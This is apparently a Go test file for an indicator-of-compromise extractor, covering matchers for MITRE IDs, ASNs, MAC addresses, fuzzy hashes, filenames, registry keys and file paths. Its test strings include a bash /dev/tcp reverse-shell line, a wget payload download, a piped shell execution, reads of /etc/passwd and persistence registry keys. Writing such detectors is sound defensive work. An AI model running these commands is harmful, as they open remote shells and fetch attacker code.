package ioc

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

type shapeCase struct {
	in   string
	want string // "" means no match
}

func runShapeCases(t *testing.T, name string, match func(string) (string, bool), cases []shapeCase) {
	t.Helper()
	for _, tc := range cases {
		got, ok := match(tc.in)
		if tc.want == "" {
			if ok {
				t.Errorf("%s(%q) = %q, want no match", name, tc.in, got)
			}
			continue
		}
		if !ok || got != tc.want {
			t.Errorf("%s(%q) = %q, %v; want %q", name, tc.in, got, ok, tc.want)
		}
	}
}

func TestMatchMitre(t *testing.T) {
	runShapeCases(t, "matchMitre", matchMitre, []shapeCase{
		{"T1059", "T1059"},
		{"T1059.001", "T1059.001"},
		{"T0801", "T0801"}, // ICS
		{"TA0001", "TA0001"},
		{"TA0104", "TA0104"}, // ICS tactic
		{"G0016", "G0016"},
		{"G1004", "G1004"},
		{"S0154", "S0154"},
		{"M1036", "M1036"},
		{"C0010", "C0010"},
		{"DS0009", "DS0009"},
		{"t1059", ""}, // lower case is left to prose
		{"s0154", ""},
		{"T1059.1", ""},
		{"T1059.0001", ""},
		{"T1059.000", ""},
		{"T1059.", ""},
		{"T105", ""},
		{"T10590", ""},
		{"T2059", ""},
		{"T0000", ""},
		{"TA001", ""},
		{"TA1001", ""},
		{"DS1001", ""},
		{"X1059", ""},
		{"G00l6", ""},
		{"T", ""},
		{"", ""},
		{"CVE-2021-1234", ""},
	})
}

func TestMatchASN(t *testing.T) {
	runShapeCases(t, "matchASN", matchASN, []shapeCase{
		{"AS13335", "AS13335"},
		{"ASN13335", "AS13335"},
		{"as13335", "AS13335"},
		{"asn15169", "AS15169"},
		{"AS1", "AS1"},
		{"AS64511", "AS64511"},           // documentation range is still an ASN
		{"AS4294967295", "AS4294967295"}, // largest 32-bit number
		{"AS4294967296", ""},
		{"AS0", ""},
		{"AS013335", ""},
		{"AS", ""},
		{"ASN", ""},
		{"AS-13335", ""},
		{"AS13335x", ""},
		{"AS 13335", ""},
		{"AS12345678901", ""},
		{"BS13335", ""},
		{"ASAP", ""},
	})
}

func TestMatchMAC(t *testing.T) {
	runShapeCases(t, "matchMAC", matchMAC, []shapeCase{
		{"00:1A:2B:3C:4D:5E", "00:1a:2b:3c:4d:5e"},
		{"00-1A-2B-3C-4D-5E", "00:1a:2b:3c:4d:5e"},
		{"001a.2b3c.4d5e", "00:1a:2b:3c:4d:5e"},
		{"001A.2B3C.4D5E", "00:1a:2b:3c:4d:5e"},
		{"3c-52-82-1a-9f-04", "3c:52:82:1a:9f:04"},
		{"00:00:00:00:00:00", "00:00:00:00:00:00"},
		{"12:30:45", ""},
		{"3:2", ""},
		{"00:1A:2B:3C:4D", ""},
		{"00:1A:2B:3C:4D:5E:6F", ""},
		{"00:1a:2b:3c:4d:5e:52:54:00:12:34:56:08:00", ""},
		{"00:1A-2B:3C:4D:5E", ""}, // mixed separators
		{"00.1A.2B.3C.4D.5E", ""},
		{"0:1A:2B:3C:4D:5E0", ""},
		{"00:1G:2B:3C:4D:5E", ""},
		{"001a:2b3c:4d5e", ""},
		{"001a.2b3c.4d5", ""},
		{"2001:db8::1", ""},
		{"fe80::1:2:3:4", ""},
	})
}

func TestMatchSSDeep(t *testing.T) {
	runShapeCases(t, "matchSSDeep", matchSSDeep, []shapeCase{
		{"3072:Kq8yG7sVb2nXcW4pLmT9dZr1hF6aJ0eQ3uOiYkSx:Kq8yG7sVb2nXcW4pLmT9dZr", "3072:Kq8yG7sVb2nXcW4pLmT9dZr1hF6aJ0eQ3uOiYkSx:Kq8yG7sVb2nXcW4pLmT9dZr"},
		{"96:s4Ud1Lj96tHHlZDrwciQmA+4uy1I0G4HYuL8N3TzS8QsO/wqWXLcMSx:sF1LjEtHHlZDrwciQmA+4uyvG4HYuL8N", "96:s4Ud1Lj96tHHlZDrwciQmA+4uy1I0G4HYuL8N3TzS8QsO/wqWXLcMSx:sF1LjEtHHlZDrwciQmA+4uyvG4HYuL8N"},
		{"3:abc:de", "3:abc:de"},
		{"6144:" + strings.Repeat("Ab", 32) + ":" + strings.Repeat("Cd", 32), "6144:" + strings.Repeat("Ab", 32) + ":" + strings.Repeat("Cd", 32)},
		{"12:30:45", ""},           // a time
		{"3:2", ""},                // a ratio
		{"12:345:6789", ""},        // digits only
		{"100:abcdef:ghij", ""},    // 100 is not 3×2^n
		{"0:abcdef:ghij", ""},      // no block size
		{"03:abcdef:ghij", ""},     // leading zero
		{"48:ab:cd", ""},           // hash1 too short
		{"48:abcdef:", ""},         // empty hash2
		{"48:abcd-ef:ghij", ""},    // '-' is not base64
		{"48:abcdef:gh:ij", ""},    // a fourth field
		{"48:abcdef:ghij,\"a", ""}, // the file name belongs outside the token
		{"6144:" + strings.Repeat("A", 65) + ":abc", ""},
		{"6144:abc:" + strings.Repeat("A", 65), ""},
		{"abc:def:ghi", ""},
		{":abcdef:ghij", ""},
		{"", ""},
	})
}

func TestMatchJARM(t *testing.T) {
	jarm := "29d29d00029d29d00041d41d0000007f2d0c8e21c7b3f6e1a4c2b0d9e8f7a6"
	runShapeCases(t, "matchJARM", matchJARM, []shapeCase{
		{jarm, jarm},
		{strings.ToUpper(jarm), jarm},
		{strings.Repeat("0", 62), ""},
		{jarm[:61], ""},
		{jarm + "a", ""},
		{strings.Repeat("a", 32), ""},
		{strings.Repeat("a", 33), ""},
		{strings.Repeat("a", 48), ""},
		{strings.Repeat("a", 64), ""},
		{jarm[:61] + "g", ""},
		{"x" + jarm[:61], ""},
	})
}

func TestMatchFilename(t *testing.T) {
	runShapeCases(t, "matchFilename", matchFilename, []shapeCase{
		{"invoice.pdf.exe", "invoice.pdf.exe"},
		{"INV-40217.pdf.exe", "INV-40217.pdf.exe"},
		{"EXCEL.EXE", "EXCEL.EXE"},
		{"version.dll", "version.dll"},
		{"Shipping_Docs.lnk", "Shipping_Docs.lnk"},
		{"stage2.ps1", "stage2.ps1"},
		{"Q4_budget_review.xlsm", "Q4_budget_review.xlsm"},
		{"payload.7z", "payload.7z"},
		{"setup.py", "setup.py"},
		{"install.sh", "install.sh"},
		{"lib.so", "lib.so"},
		{"archive.zip", "archive.zip"},
		{"~DF3A91.cab", "~DF3A91.cab"},
		{"avatar.jspx", "avatar.jspx"},
		{"8712.exe", "8712.exe"},
		{"Счёт.pdf.exe", "Счёт.pdf.exe"},
		{"loader.js", "loader.js"},
		{"Node.js", ""}, // a product, not a file
		{"Vue.js", ""},
		{"README.md", ""}, // not an extension analysts hunt for
		{"onet.pl", ""},   // a busy country domain
		{"movie.mov", ""},
		{"example.com", ""},
		{"evil.net", ""},
		{"System.IO.File", ""},
		{"os.path.join", ""},
		{"ASP.NET", ""},
		{".exe", ""},
		{".bashrc", ""},
		{"exe", ""},
		{"invoice.", ""},
		{"invoice..exe", ""},
		{"-.exe", ""},
		{"C:\\Users\\x.exe", ""},
		{"/tmp/x.sh", ""},
		{"user@host.zip", ""},
		{"a[.]exe", ""},
		{"hello world.exe", ""},
		{"x.exe\xff", ""},
		{"", ""},
	})
}

type shapeHit struct {
	raw, value string
}

func collectShapes(scan func([]byte, func(int, int, string)), text string) []shapeHit {
	var hits []shapeHit
	scan([]byte(text), func(start, end int, value string) {
		hits = append(hits, shapeHit{text[start:end], value})
	})
	return hits
}

func checkScan(t *testing.T, name string, scan func([]byte, func(int, int, string)), in string, want []shapeHit) {
	t.Helper()
	got := collectShapes(scan, in)
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("%s(%q)\n got %q\nwant %q", name, in, got, want)
	}
}

func TestScanRegistryKeys(t *testing.T) {
	run := `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`
	tests := []struct {
		in   string
		want []shapeHit
	}{
		{run, []shapeHit{{run, run}}},
		{"Persistence in " + run + ".", []shapeHit{{run, run}}},
		{"(" + run + ")", []shapeHit{{run, run}}},
		{"`" + run + "`", []shapeHit{{run, run}}},
		{run + " key was modified", []shapeHit{{run, run}}},
		{`hklm\SYSTEM\CurrentControlSet\Services\DrvUpd`, []shapeHit{{`hklm\SYSTEM\CurrentControlSet\Services\DrvUpd`, `HKLM\SYSTEM\CurrentControlSet\Services\DrvUpd`}}},
		{`-Path "HKCU:\Software\Microsoft\Windows\CurrentVersion\Run" -Name x`, []shapeHit{{`HKCU:\Software\Microsoft\Windows\CurrentVersion\Run`, run}}},
		{`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon was changed`,
			[]shapeHit{{`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`, `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`}}},
		{`"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe"`,
			[]shapeHit{{`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe`, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe`}}},
		{`{"key": "HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command", "x": 1}`,
			[]shapeHit{{`HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command`, `HKEY_CURRENT_USER\Software\Classes\ms-settings\shell\open\command`}}},
		{`reg add HKCU\Software\X /v Y /d C:\a.exe`, []shapeHit{{`HKCU\Software\X`, `HKCU\Software\X`}}},
		{`HKCU\Software\Run C:\Users\evil.exe`, []shapeHit{{`HKCU\Software\Run`, `HKCU\Software\Run`}}},
		{`HKCU\Software\A HKLM\Software\B`, []shapeHit{{`HKCU\Software\A`, `HKCU\Software\A`}, {`HKLM\Software\B`, `HKLM\Software\B`}}},
		{`Registry::HKEY_USERS\S-1-5-21-1004\Environment,next`, []shapeHit{{`HKEY_USERS\S-1-5-21-1004\Environment`, `HKEY_USERS\S-1-5-21-1004\Environment`}}},
		{`Computer\HKEY_CLASSES_ROOT\CLSID\{3F2504E0-4F89-11D3-9A0C-0305E82C3301}`, []shapeHit{{`HKEY_CLASSES_ROOT\CLSID\{3F2504E0-4F89-11D3-9A0C-0305E82C3301}`, `HKEY_CLASSES_ROOT\CLSID\{3F2504E0-4F89-11D3-9A0C-0305E82C3301}`}}},
		{"HKCU\\Software\\X\r\nnext line", []shapeHit{{`HKCU\Software\X`, `HKCU\Software\X`}}},
		{`HKLM\`, nil},
		{`HKLM\\`, nil},
		{`HKLM`, nil},
		{`HKLM:`, nil},
		{`XHKLM\Software`, nil},
		{`MyHKCU\Software`, nil},
		{`HKXX\Software`, nil},
		{`HK\Software`, nil},
		{`C:\Users\Public\evil.exe`, nil},
		{`\\\HKLM\\\Software`, nil},
	}
	for _, tt := range tests {
		checkScan(t, "scanRegistryKeys", scanRegistryKeys, tt.in, tt.want)
	}
}

func TestScanFilepaths(t *testing.T) {
	same := func(s string) shapeHit { return shapeHit{s, s} }
	tests := []struct {
		in   string
		want []shapeHit
	}{
		{`C:\Users\Public\evil.exe`, []shapeHit{same(`C:\Users\Public\evil.exe`)}},
		{`dropped C:\Users\Public\evil.exe, then ran it.`, []shapeHit{same(`C:\Users\Public\evil.exe`)}},
		{`%APPDATA%\Microsoft\x.dll`, []shapeHit{same(`%APPDATA%\Microsoft\x.dll`)}},
		{`%ProgramFiles(x86)%\Tool\t.exe`, []shapeHit{same(`%ProgramFiles(x86)%\Tool\t.exe`)}},
		{`$env:LOCALAPPDATA\OneDriveSync\OneDriveUpdater.exe`, []shapeHit{same(`$env:LOCALAPPDATA\OneDriveSync\OneDriveUpdater.exe`)}},
		{`\\fileserver01\share$\drop\a.ps1`, []shapeHit{same(`\\fileserver01\share$\drop\a.ps1`)}},
		{`running outside C:\Program Files\Microsoft OneDrive\ today`, []shapeHit{same(`C:\Program Files\Microsoft OneDrive`)}},
		{`C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, []shapeHit{same(`C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`)}},
		{`"C:\Users\a\Downloads\Q4 budget review.xlsm" opened`, []shapeHit{same(`C:\Users\a\Downloads\Q4 budget review.xlsm`)}},
		{`C:\Users\a\Downloads\Q4 budget review.xlsm`, []shapeHit{same(`C:\Users\a\Downloads\Q4`)}},
		{`"command_line": "\"C:\\Program Files\\Office\\EXCEL.EXE\" \"C:\\Users\\n\\Q4.xlsm\""`,
			[]shapeHit{{`C:\\Program Files\\Office\\EXCEL.EXE`, `C:\Program Files\Office\EXCEL.EXE`}, {`C:\\Users\\n\\Q4.xlsm`, `C:\Users\n\Q4.xlsm`}}},
		{`"C:\Users\a\svc.exe --server https:\/\/t.example.com\/v1 --interval 300"`, []shapeHit{same(`C:\Users\a\svc.exe`)}},
		{`"C:\Windows\System32\cmd.exe /c whoami"`, []shapeHit{same(`C:\Windows\System32\cmd.exe`)}},
		{`"C:\\Users\\a\\svc.exe --server https:\\/\\/t.example.com\\/v1"`, []shapeHit{{`C:\\Users\\a\\svc.exe`, `C:\Users\a\svc.exe`}}},
		{`"C:\Users\a\x.exe" "D:\y z\w.dll"`, []shapeHit{same(`C:\Users\a\x.exe`), same(`D:\y z\w.dll`)}},
		{`"/tmp/x -o /tmp/y"`, []shapeHit{same(`/tmp/x`), same(`/tmp/y`)}},
		{`{"path": "\\\\srv\\share\\x.exe"}`, []shapeHit{{`\\\\srv\\share\\x.exe`, `\\srv\share\x.exe`}}},
		{`copy C:\a.exe D:\b.exe`, []shapeHit{same(`C:\a.exe`), same(`D:\b.exe`)}},
		{`(C:\Windows\Temp\x.bat)`, []shapeHit{same(`C:\Windows\Temp\x.bat`)}},
		{`C:\`, nil},
		{`C:\\`, nil},
		{`abc:\x\y`, nil},
		{`\\server`, nil},
		{`\\server\`, nil},
		{`x\\server\share`, nil},
		{`match \\d+\\w here`, nil},
		{`\\10.0.0.5\c$\Windows\Temp\p.exe`, []shapeHit{same(`\\10.0.0.5\c$\Windows\Temp\p.exe`)}},
		{`HKLM\Software\X`, nil},
		{`%NOTCLOSED\x`, nil},
		{`Windows\System32\cmd.exe`, nil},

		{`/tmp/x`, []shapeHit{same(`/tmp/x`)}},
		{`helper at /tmp/.cache/kworkerd and a cron line in /etc/cron.d/sync-check;`, []shapeHit{same(`/tmp/.cache/kworkerd`), same(`/etc/cron.d/sync-check`)}},
		{`wget -O /var/tmp/.x/tun.elf http://203.0.113.1/t`, []shapeHit{same(`/var/tmp/.x/tun.elf`)}},
		{`curl http://a.example.com/etc/passwd`, nil},
		{`GET /usr/share/x HTTP/1.1`, []shapeHit{same(`/usr/share/x`)}},
		{`example.com/tmp/x`, nil},
		{`?file=/etc/passwd&x=1`, []shapeHit{same(`/etc/passwd`)}},
		{`PATH=/usr/bin:/usr/local/bin`, []shapeHit{same(`/usr/bin`), same(`/usr/local/bin`)}},
		{`bash -i >& /dev/tcp/203.0.113.5/4444 0>&1`, []shapeHit{same(`/dev/tcp/203.0.113.5/4444`)}},
		{`'/Users/John Doe/Library/LaunchAgents/com.x.plist'`, []shapeHit{same(`/Users/John Doe/Library/LaunchAgents/com.x.plist`)}},
		{`/tmp/`, nil},
		{`/tmp`, nil},
		{`/tmp/t.sh|sh`, []shapeHit{same(`/tmp/t.sh`)}},
		{`"/etc/shadow".`, []shapeHit{same(`/etc/shadow`)}},
		{`cat /etc/passwd.`, []shapeHit{same(`/etc/passwd`)}},
		{`/wp-login.php /.env /cgi-bin/luci`, nil},
		{`cd%20/tmp;%20wget`, nil},
		{`2001:db8::/48`, nil},
		{`/etc/x C:\y\z /opt/w`, []shapeHit{same(`/etc/x`), same(`C:\y\z`), same(`/opt/w`)}},
	}
	for _, tt := range tests {
		checkScan(t, "scanFilepaths", scanFilepaths, tt.in, tt.want)
	}
}

// Offsets must cover exactly the raw text, in order, inside the input.
func TestScanOffsetsInOrder(t *testing.T) {
	text := []byte(strings.Repeat(`x C:\a\b.exe HKLM\Software\k /tmp/q "%TEMP%\r s\t.dll" `, 50))
	for name, scan := range map[string]func([]byte, func(int, int, string)){
		"scanFilepaths": scanFilepaths, "scanRegistryKeys": scanRegistryKeys,
	} {
		last := -1
		n := 0
		scan(text, func(start, end int, _ string) {
			if start < last || start >= end || end > len(text) {
				t.Fatalf("%s: span [%d,%d) after %d", name, start, end, last)
			}
			last = end
			n++
		})
		if n == 0 {
			t.Errorf("%s found nothing", name)
		}
	}
}

func FuzzShapeScanners(f *testing.F) {
	f.Add(`C:\Users\x "HKLM:\Software\a b\c" \\\\s\\x /tmp/a %T%\y $env:X\z`)
	f.Add("\"\\\\\\\\\\\\\\\\\"HK\\C:\\\\")
	f.Fuzz(func(t *testing.T, s string) {
		text := []byte(s)
		for _, scan := range []func([]byte, func(int, int, string)){scanFilepaths, scanRegistryKeys} {
			last := 0
			scan(text, func(start, end int, value string) {
				if start < last || start >= end || end > len(text) || value == "" {
					t.Fatalf("bad span [%d,%d) value %q after %d in %q", start, end, value, last, s)
				}
				last = end
			})
		}
		for _, m := range []func(string) (string, bool){matchMitre, matchASN, matchMAC, matchSSDeep, matchJARM, matchFilename} {
			if v, ok := m(s); ok {
				if again, ok2 := m(v); !ok2 || again != v {
					t.Fatalf("normalized %q of %q does not match itself", v, s)
				}
			}
		}
	})
}

func BenchmarkShapeScanners(b *testing.B) {
	var buf bytes.Buffer
	for buf.Len() < 1<<20 {
		buf.WriteString(`The loader at C:\Users\Public\Libraries\sync\OneDriveUpdater.exe sets HKCU\Software\Microsoft\Windows\CurrentVersion\Run `)
		buf.WriteString("and fetches https://cdn.example.com/api/v2/ping?id=1/2/3, then writes /tmp/.cache/kworkerd; see the report.\n")
		buf.WriteString("Ordinary prose about networks, hosts and users, with no path in it whatsoever, repeated.\n")
	}
	text := buf.Bytes()
	adversarial := map[string][]byte{
		"mixed":       text,
		"backslashes": bytes.Repeat([]byte(`\`), len(text)),
		"slashes":     bytes.Repeat([]byte(`/`), len(text)),
		"drives":      bytes.Repeat([]byte(`C:\`), len(text)/3),
		"quotes":      bytes.Repeat([]byte(`"C:\a b `), len(text)/8),
		"spaces":      bytes.Repeat([]byte(`C:\a b\c d\e `), len(text)/13),
		"hives":       bytes.Repeat([]byte(`HKLM\`), len(text)/5),
		"roots":       bytes.Repeat([]byte(` /tmp/`), len(text)/6),
	}
	for _, name := range []string{"mixed", "backslashes", "slashes", "drives", "quotes", "spaces", "hives", "roots"} {
		in := adversarial[name]
		b.Run(name+"/filepaths", func(b *testing.B) {
			b.SetBytes(int64(len(in)))
			b.ReportAllocs()
			for b.Loop() {
				scanFilepaths(in, func(int, int, string) {})
			}
		})
		b.Run(name+"/registry", func(b *testing.B) {
			b.SetBytes(int64(len(in)))
			b.ReportAllocs()
			for b.Loop() {
				scanRegistryKeys(in, func(int, int, string) {})
			}
		})
	}
}

// The realistic documents hold every kind of path and key the scanners must
// find, next to URLs, command lines and prose they must leave alone.
func TestScanDocuments(t *testing.T) {
	tests := []struct {
		file      string
		scan      func([]byte, func(int, int, string))
		wantValue []string
	}{
		{"edr-alert.json", scanRegistryKeys, []string{
			`HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run`,
			`HKLM\SYSTEM\CurrentControlSet\Services\DrvUpd\Parameters`,
			`HKCU\Software\Classes\ms-settings\shell\open\command`,
		}},
		{"edr-alert.json", scanFilepaths, []string{
			`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`,
			`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`,
			`C:\Users\a.novak\Downloads\Q4_budget_review.xlsm`,
			`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			`C:\Users\a.novak\AppData\Roaming\Microsoft\Crypto\svchost32.exe`,
			`C:\Users\a.novak\AppData\Roaming\Microsoft\Crypto\svchost32.exe`,
			`C:\Users\a.novak\AppData\Roaming\Microsoft\Crypto\svchost32.exe`,
			`C:\ProgramData\Intel\drvupd.dll`,
			`%TEMP%\~DF3A91.tmp`,
			`C:\Users\a.novak\AppData\Roaming\Microsoft\Crypto\svchost32.exe`,
			`C:\ProgramData\Intel\drvupd.dll`,
		}},
		{"threat-report.md", scanRegistryKeys, []string{
			`HKCU\Software\Microsoft\Windows\CurrentVersion\Run`,
		}},
		{"threat-report.md", scanFilepaths, []string{
			`$env:LOCALAPPDATA\OneDriveSync\OneDriveUpdater.exe`,
			`C:\Users\Public\Libraries\sync`,
			`%LOCALAPPDATA%\OneDriveSync\version.dll`,
			`C:\Program Files\Microsoft OneDrive`,
			`/tmp/.cache/kworkerd`,
			`/etc/cron.d/sync-check`,
		}},
		{"apache.log", scanFilepaths, nil},
		{"firewall.log", scanFilepaths, []string{`/usr/local/sbin/fw-stats`}},
		{"phishing.eml", scanFilepaths, nil},
	}
	for _, tt := range tests {
		text, err := os.ReadFile(filepath.Join("testdata", "docs", tt.file))
		if err != nil {
			t.Fatalf("reading the document: %v", err)
		}
		var got []string
		tt.scan(text, func(_, _ int, value string) { got = append(got, value) })
		if strings.Join(got, "\n") != strings.Join(tt.wantValue, "\n") {
			t.Errorf("%s:\n got %q\nwant %q", tt.file, got, tt.wantValue)
		}
	}
}
